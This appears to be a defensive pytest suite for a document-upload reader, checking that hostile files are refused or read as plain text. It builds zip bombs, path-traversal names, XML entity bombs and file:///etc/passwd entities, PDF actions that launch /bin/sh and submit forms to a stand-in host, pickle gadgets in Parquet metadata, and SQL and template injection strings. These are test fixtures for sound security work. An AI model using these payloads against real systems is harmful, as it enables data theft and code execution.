"""Attacks in files, handed in as the page for adding hands them in: refused in one line, or read as text."""

import io
import struct
import time
import tracemalloc
import urllib.request
import zipfile
import zlib
from collections.abc import Callable, Mapping

import pandas as pd
import pyarrow as pa
import pytest
from made_files import TEXT, docx_of, pdf_of, xlsx_of, zip_of
from pyarrow import parquet
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, PdfObject, StreamObject, TextStringObject

from quotes.batches import Batch
from quotes.library import Library
from quotes.reading.inputs import Found, Outcome, Remark
from quotes.reading.kinds import READERS
from quotes.reading.pdf_files import _MOST_SECONDS
from quotes.submissions import uploaded

ELSEWHERE = "http://elsewhere.example/beacon"


@pytest.fixture(autouse=True)
def nothing_is_fetched(monkeypatch):
    """Fail where reading a file asks for a machine or opens an address."""

    def refuse(*given: object, **_: object) -> None:
        raise AssertionError(f"asked for {given}")

    monkeypatch.setattr("socket.getaddrinfo", refuse)
    monkeypatch.setattr("socket.socket.connect", refuse)
    monkeypatch.setattr(urllib.request, "urlopen", refuse)


def handed_in(tmp_path, name: str, content: bytes) -> list[Outcome]:
    """Hand a file in as a visitor does: read into a batch that waits."""
    with Library(tmp_path / "library.sqlite") as library:
        found = list(Batch().read(library, uploaded([(name, io.BytesIO(content))])))
    for each in found:
        assert "\n" not in str(each) or isinstance(each, Found)
    return found


def reason(tmp_path, name: str, content: bytes) -> str:
    """Return why a file is refused as a whole."""
    (remark,) = handed_in(tmp_path, name, content)
    assert isinstance(remark, Remark)
    assert remark.outcome == "failed"
    return remark.reason


def text(tmp_path, name: str, content: bytes) -> str:
    """Return the text of the one article of a file."""
    (found,) = handed_in(tmp_path, name, content)
    assert isinstance(found, Found)
    return found.article.text


def members_of(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def changed(content: bytes, changes: Mapping[str, Callable[[bytes], bytes]]) -> bytes:
    """Return an office file with some of its parts changed."""
    members = members_of(content)
    return zip_of(members | {name: change(members.get(name, b"")) for name, change in changes.items()})


# Archives


def zip_of_many(number: int) -> bytes:
    """Return an archive whose directory names a million members that all are the same few bytes."""
    content = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, 5, 0) + b"a.txt"
    lines = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, *(0,) * 7, 7, *(0,) * 6) + b"%07d" % line
        for line in range(number)
    )
    end = struct.pack(
        "<4s4H2IH", b"PK\x05\x06", 0, 0, number & 0xFFFF, number & 0xFFFF, len(lines), len(content), 0
    )
    return content + lines + end


@pytest.mark.parametrize("name", ["a.zip", "a.docx", "a.xlsx"])
def test_a_million_members_are_counted_before_they_are_listed(tmp_path, name):
    content = zip_of_many(1_000_000)
    tracemalloc.start()
    assert "more than 200,000 members" in reason(tmp_path, name, content)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 20_000_000


def test_archives_within_archives_are_never_unpacked(tmp_path):
    inner = zip_of({"a.txt": TEXT})
    for _ in range(20):
        inner = zip_of({"b.zip": inner})
    (remark,) = handed_in(tmp_path, "a.zip", inner)
    assert (remark.place, remark.outcome) == ("a.zip: b.zip", "skipped")


@pytest.mark.parametrize("lie", [10, 2**31, 2**63])
def test_zip64_sizes_that_lie(tmp_path, lie):
    with (
        zipfile.ZipFile(made := io.BytesIO(), "w") as archive,
        archive.open("a.txt", "w", force_zip64=True) as file,
    ):
        file.write(TEXT.encode() * 100)
    content = made.getvalue()
    start = content.index(b"PK\x01\x02")
    extra = struct.pack("<HHQQ", 1, 16, lie, lie)
    entry = bytearray(content[start:])
    end = entry.index(b"PK\x05\x06")
    struct.pack_into("<II", entry, 20, 0xFFFFFFFF, 0xFFFFFFFF)
    struct.pack_into("<H", entry, 30, len(extra))
    tail = bytearray(entry[end:])
    struct.pack_into("<I", tail, 12, end + len(extra))
    lying = content[:start] + bytes(entry[:end]) + extra + bytes(tail)
    found = handed_in(tmp_path, "a.zip", lying)
    assert [type(each) for each in found] == [Remark]
    assert found[0].outcome == "failed"


@pytest.mark.parametrize("name", ["../../a.txt", "/etc/cron.d/a.txt", "C:/a.txt", "a/../../b.txt"])
def test_paths_that_climb(tmp_path, name):
    (remark,) = handed_in(tmp_path, "a.zip", zip_of({name: TEXT}))
    assert "leads out of the archive" in remark.reason


@pytest.mark.parametrize(
    "name", ["../../../etc/passwd.txt", "..\\..\\a.txt", "/etc/a.txt", "\0a.txt", "\ud800.txt"]
)
def test_the_name_of_an_upload_leads_nowhere(tmp_path, name):
    (found,) = handed_in(tmp_path, name, TEXT.encode())
    assert "/" not in found.article.id
    assert "\\" not in found.article.id
    found.article.id.encode()


# Office files


def test_a_bomb_in_a_part_of_another_name(tmp_path):
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    bomb = docx_of(["&a9;"], prolog=f'<!DOCTYPE a [<!ENTITY a0 "ha">{laughs}]>')
    content = changed(
        docx_of(["Fine."]),
        {
            "word/picture.bin": lambda _: members_of(bomb)["word/document.xml"],
            "_rels/.rels": lambda part: part.replace(b"word/document.xml", b"word/picture.bin"),
        },
    )
    assert "declares XML entities" in reason(tmp_path, "a.docx", content)


def test_a_long_text_that_many_cells_share(tmp_path):
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>1</v></c></row>' for n in range(2, 3000))
    content = changed(
        xlsx_of({"A": [["text"], ["B"]]}),
        {
            "xl/sharedStrings.xml": lambda part: part.replace(
                b"<t>B</t>", b"<t>" + b"B" * 1_000_000 + b"</t>"
            ),
            "xl/worksheets/sheet1.xml": lambda part: (
                part[: part.index(b'<row r="2"')] + rows.encode() + part[part.index(b"</sheetData>") :]
            ),
        },
    )
    assert len(content) < 30_000
    assert "too many to hold" in reason(tmp_path, "a.xlsx", content)


def test_more_markup_than_words(tmp_path):
    content = changed(
        docx_of(["Fine."]),
        {"word/document.xml": lambda part: part.replace(b"<w:body>", b"<w:body>" + b"<w:p/>" * 1_000_000)},
    )
    assert "tags; at most" in reason(tmp_path, "a.docx", content)


def test_a_note_that_is_referred_to_again_and_again(tmp_path):
    again = b'<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>' * 2
    content = changed(
        docx_of(["Fine."]), {"word/document.xml": lambda part: part.replace(b"<w:body>", b"<w:body>" + again)}
    )
    assert "referred to twice" in reason(tmp_path, "a.docx", content)


def test_nested_deeper_than_a_parser_goes(tmp_path):
    deep = (b"<w:sdt><w:sdtContent>" * 20_000, b"</w:sdtContent></w:sdt>" * 20_000)
    content = changed(
        docx_of(["Fine."]),
        {
            "word/document.xml": lambda part: part.replace(b"<w:body>", b"<w:body>" + deep[0]).replace(
                b"</w:body>", deep[1] + b"</w:body>"
            )
        },
    )
    assert "broken" in reason(tmp_path, "a.docx", content)


def test_a_word_file_that_points_elsewhere(tmp_path):
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relation = (
        f'<Relationship Id="p" Type="{kinds}/image" Target="{ELSEWHERE}" TargetMode="External"/>'
        f'<Relationship Id="q" Type="{kinds}/image" Target="file:///etc/passwd" TargetMode="External"/>'
        f'<Relationship Id="t" Type="{kinds}/attachedTemplate" Target="{ELSEWHERE}" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    names = (
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    )
    pictures = "".join(
        f"<w:p><w:r><w:drawing {names}><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill>"
        f'<a:blip r:link="{target}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline>'
        "</w:drawing></w:r></w:p>"
        for target in "pq"
    ).encode()
    content = changed(
        docx_of(["Fine."]),
        {
            "word/document.xml": lambda part: part.replace(b"<w:body>", b"<w:body>" + pictures),
            "word/_rels/document.xml.rels": lambda part: part.replace(b"</Relationships>", relation),
        },
    )
    assert text(tmp_path, "a.docx", content) == "Fine."


def test_a_workbook_of_formulas_gives_what_they_came_to(tmp_path):
    import xlsxwriter  # noqa: PLC0415

    with xlsxwriter.Workbook(made := io.BytesIO()) as book:
        sheet = book.add_worksheet()
        sheet.write_string(0, 0, "text")
        sheet.write_formula(1, 0, f'=WEBSERVICE("{ELSEWHERE}")', None, "“No,” she said.")
        sheet.write_url(2, 0, ELSEWHERE, string="“Yes,” she said.")
    found = handed_in(tmp_path, "a.xlsx", made.getvalue())
    assert [each.article.text for each in found] == ["“No,” she said.", "“Yes,” she said."]


# PDF


def pdf_with(contents: bytes, **forms: bytes) -> bytes:
    """Return a PDF whose page has these contents, with forms to draw."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf_of([["Words."]])))
    page = writer.pages[0]

    def stream(content: bytes, **named: object) -> object:
        made = StreamObject()
        made.set_data(zlib.compress(content))
        made[NameObject("/Filter")] = NameObject("/FlateDecode")
        made.update({NameObject(f"/{name}"): value for name, value in named.items()})
        return writer._add_object(made)

    resources = page["/Resources"].get_object()
    drawn = DictionaryObject()
    resources[NameObject("/XObject")] = drawn
    for name, content in forms.items():
        drawn[NameObject(f"/{name}")] = stream(
            content, Type=NameObject("/XObject"), Subtype=NameObject("/Form"), Resources=resources
        )
    page[NameObject("/Contents")] = stream(contents)
    writer.write(made := io.BytesIO())
    return made.getvalue()


def test_forms_that_draw_one_another_ten_times_each(tmp_path, monkeypatch):
    monkeypatch.setattr("quotes.reading.pdf_files._MOST_SECONDS", 0.5)
    forms = {f"F{n}": f"/F{n + 1} Do ".encode() * 10 for n in range(12)}
    started = time.monotonic()
    assert "takes more than" in reason(tmp_path, "a.pdf", pdf_with(b"/F0 Do", **forms, F12=b"q Q"))
    assert time.monotonic() - started < 10
    assert _MOST_SECONDS <= 120


def test_contents_that_unpack_without_end(tmp_path):
    assert "broken" in reason(tmp_path, "a.pdf", pdf_with(b" " * 300_000_000))


def action(kind: str, **more: PdfObject) -> DictionaryObject:
    """Return an action of a PDF, which runs when it is opened in a viewer."""
    return DictionaryObject(
        {NameObject("/S"): NameObject(f"/{kind}")}
        | {NameObject(f"/{name}"): value for name, value in more.items()}
    )


def test_a_pdf_that_points_elsewhere_and_runs_things(tmp_path):
    writer = PdfWriter(clone_from=io.BytesIO(pdf_of([['"No," she said.']])))
    writer.add_attachment("a.exe", b"MZ")
    script = TextStringObject(f'app.launchURL("{ELSEWHERE}"); this.submitForm("{ELSEWHERE}");')
    start = action("Launch", F=TextStringObject("/bin/sh"))
    writer.root_object[NameObject("/OpenAction")] = action("JavaScript", JS=script, Next=start)
    writer.add_uri(0, ELSEWHERE, [0, 0, 100, 100])
    writer.write(made := io.BytesIO())
    assert "/OpenAction" in PdfReader(made).trailer["/Root"]
    assert '"No," she said.' in text(tmp_path, "a.pdf", made.getvalue())


# Pages


HEAD = (
    f'<base href="{ELSEWHERE}/"><meta http-equiv="refresh" content="0; url={ELSEWHERE}">'
    f'<link rel="stylesheet" href="{ELSEWHERE}"><link rel="canonical" href="javascript:alert(1)">'
    f'<script src="{ELSEWHERE}"></script><meta property="og:title" content="&lt;script&gt;a&lt;/script&gt;">'
)
BODY = "".join(f"<p>{paragraph}</p>" for paragraph in TEXT.split("\n\n"))


def test_a_page_that_leads_elsewhere(tmp_path):
    page = (
        f'<html><head>{HEAD}</head><body><iframe src="{ELSEWHERE}"></iframe><article>{BODY}</article></body>'
    )
    (found,) = handed_in(tmp_path, "a.html", page.encode())
    assert found.article.text == TEXT
    assert found.article.url is None


def test_a_page_with_entities_of_its_own(tmp_path):
    doctype = '<!DOCTYPE html [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;&a;">]>'
    page = f"<?xml version='1.0'?>{doctype}<html><body><article>{BODY}<p>&a;&b;</p></article></body></html>"
    assert "root:" not in text(tmp_path, "a.xhtml", page.encode())


def test_a_page_of_nothing_but_tags(tmp_path):
    assert "tags; at most" in reason(tmp_path, "a.html", b"<html><body>" + b"<p>" * 300_000)


@pytest.mark.parametrize(
    "charset", ["idna", "punycode", "utf-7", "unicode_escape", "zlib", "undefined", "hex"]
)
def test_a_page_that_states_an_encoding_of_no_page(tmp_path, charset):
    body = f"<body><article>{BODY}<p>+ADw-b+AD4- \\ud800</p></article>"
    page = f"<html><head><meta charset={charset}></head>{body}"
    assert text(tmp_path, "a.html", page.encode()) == f"{TEXT}\n\n+ADw-b+AD4- \\ud800"


# Tables


class Touch:
    """Makes a file when it is unpickled."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, ...]:
        return open, (self.path, "w")


def parquet_of(table: pa.Table, **options: object) -> bytes:
    parquet.write_table(table, made := io.BytesIO(), **options)
    return made.getvalue()


@pytest.mark.parametrize("name", ["arrow.py_extension_type", "evil"])
def test_pickled_types_and_objects_in_parquet_stay_bytes(tmp_path, name):
    import pickle  # noqa: PLC0415

    payload = pickle.dumps(Touch(str(tmp_path / "touched")))
    told = {b"ARROW:extension:name": name.encode(), b"ARROW:extension:metadata": payload}
    schema = pa.schema(
        [
            pa.field("text", pa.string()),
            pa.field("more", pa.binary(), metadata=told),
            pa.field("o", pa.binary()),
        ],
        metadata={b"pandas": payload},
    )
    table = pa.table([[TEXT], [payload], [payload]], schema=schema)
    assert text(tmp_path, "a.parquet", parquet_of(table)) == TEXT
    own = schema.with_metadata({b"ARROW:schema": payload})
    assert "no whole Parquet file" in reason(tmp_path, "b.parquet", parquet_of(table.cast(own)))
    assert not (tmp_path / "touched").exists()


def test_a_pickle_as_what_a_known_type_says_of_itself(tmp_path):
    import pickle  # noqa: PLC0415

    import pandas.core.arrays.arrow.extension_types  # noqa: F401, PLC0415  (by which pyarrow knows the type)

    payload = pickle.dumps(Touch(str(tmp_path / "touched")))
    told = {b"ARROW:extension:name": b"pandas.period", b"ARROW:extension:metadata": payload}
    schema = pa.schema([pa.field("text", pa.string()), pa.field("more", pa.int64(), metadata=told)])
    content = parquet_of(pa.table([[TEXT], [1]], schema=schema))
    assert "no whole Parquet file" in reason(tmp_path, "a.parquet", content)
    assert not (tmp_path / "touched").exists()


@pytest.mark.parametrize("column", ["text", "more"])
def test_a_cell_of_parquet_that_unpacks_to_much(tmp_path, column):
    cells = {"text": [TEXT], "more": ["x"]} | {column: [" " * 200_000_000]}
    content = parquet_of(pa.table(cells), compression="zstd", use_dictionary=False, write_statistics=False)
    tracemalloc.start()
    before = pa.total_allocated_bytes()
    assert "may be a bomb" in reason(tmp_path, "a.parquet", content)
    assert pa.total_allocated_bytes() - before < 10_000_000
    tracemalloc.stop()


def test_rows_of_parquet_that_share_a_long_cell(tmp_path):
    cells = pa.DictionaryArray.from_arrays(pa.array([0] * 5_000, pa.int32()), pa.array(["x" * 1_000_000]))
    found = handed_in(tmp_path, "a.parquet", parquet_of(pa.table({"text": cells}), write_statistics=False))
    assert "may be a bomb" in found[-1].reason
    assert len(found) < 100


@pytest.mark.parametrize(
    ("header", "told"),
    [
        ("text," + ",".join(f"c{n}" for n in range(100_000)) + ",c0", 'two columns are called "c0"'),
        ("text" + "," * 5_000_000, "the header is longer"),
        ("text," + "x" * 5_000_000, "the header is longer"),
        ('text,"' + "x\n" * 2_000_000, "a cell is longer"),
    ],
    ids=["many, two alike", "many without a name", "a long one", "one that never ends"],
)
def test_columns_beyond_all_measure(tmp_path, header, told):
    started = time.monotonic()
    assert told in reason(tmp_path, "a.csv", f"{header}\nx\n".encode())
    assert time.monotonic() - started < 10


@pytest.mark.parametrize(
    "date", ["Mon, 1 Jan 99999999999 00:00:00", "9" * 5000, "1/1/" + "9" * 4000, "\0", "(" * 50_000]
)
def test_dates_of_no_calendar(tmp_path, date):
    content = pd.DataFrame({"text": ["“No,” she said."], "date": [date]}).to_json(
        orient="records", lines=True
    )
    found, remark = handed_in(tmp_path, "a.jsonl", content.encode())
    assert (found.article.published, remark.outcome) == (None, "doubted")


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        (2**61, pa.timestamp("ms")),
        (-(2**62), pa.timestamp("us", tz="UTC")),
        (253_402_300_800_000, pa.timestamp("ms", tz="UTC")),
        (1_709_600_000_000, pa.timestamp("ms", tz="Nowhere/Else")),
        (2**31 - 1, pa.date32()),
        (2**62, pa.duration("us")),
    ],
    ids=str,
)
@pytest.mark.parametrize("column", ["date", "more"])
def test_dates_of_parquet_that_python_has_not(tmp_path, column, value, kind):
    cells = {"text": ["“No,” she said.", "“Yes,” she said."], column: pa.array([None, value], kind)}
    first, second, *doubts = handed_in(tmp_path, "a.parquet", parquet_of(pa.table(cells)))
    assert [first.article.text, second.article.text] == cells["text"]
    assert second.article.published is None
    assert [each.outcome for each in doubts] == ["doubted"] * (column == "date")


@pytest.mark.parametrize("depth", [500, 940, 960, 980, 990, 100_000])
@pytest.mark.parametrize("suffix", [".json", ".jsonl"])
def test_json_of_any_depth(tmp_path, suffix, depth):
    for place in ("text", "more"):
        fields = {"text": '"“No,” she said."'} | {place: "[" * depth + "]" * depth}
        content = "{" + ", ".join(f'"{name}": {value}' for name, value in fields.items()) + "}"
        assert len(handed_in(tmp_path, f"a{suffix}", content.encode())) == 1


@pytest.mark.parametrize("suffix", sorted(suffix for suffix in READERS if suffix not in (".zip",)))
def test_scripts_formulas_and_syntax_are_words(tmp_path, suffix):
    """Every kind of file that holds words gives them back as they are."""
    words = "=1+1 <script>alert(1)</script> '; DROP TABLE quotes; -- NEAR(a b) {{7*7}} ${7*7} %s said."
    cells = pd.DataFrame({"text": [words], "title": [words]})
    contents = {
        ".docx": lambda: docx_of([words]),
        ".pdf": lambda: pdf_of([[words]]),
        ".xlsx": lambda: xlsx_of({"A": [["text", "title"], [f" {words}", words]]}),
        ".parquet": lambda: parquet_of(pa.Table.from_pandas(cells)),
        ".csv": lambda: cells.to_csv(index=False).encode(),
        ".tsv": lambda: cells.to_csv(index=False, sep="\t").encode(),
        ".json": lambda: cells.to_json(orient="records").encode(),
        ".jsonl": lambda: cells.to_json(orient="records", lines=True).encode(),
        ".ndjson": lambda: cells.to_json(orient="records", lines=True).encode(),
    }
    page = f"<html><body><article>{BODY}<p>{words.replace('<', '&lt;')}</p></article></body></html>"
    contents |= dict.fromkeys((".html", ".htm", ".xhtml"), page.encode)
    found = " ".join(text(tmp_path, f"a{suffix}", contents.get(suffix, words.encode)()).split())
    assert found.endswith(words)
    assert suffix in (".html", ".htm", ".xhtml", ".pdf") or found == words  # whose pages have more on them
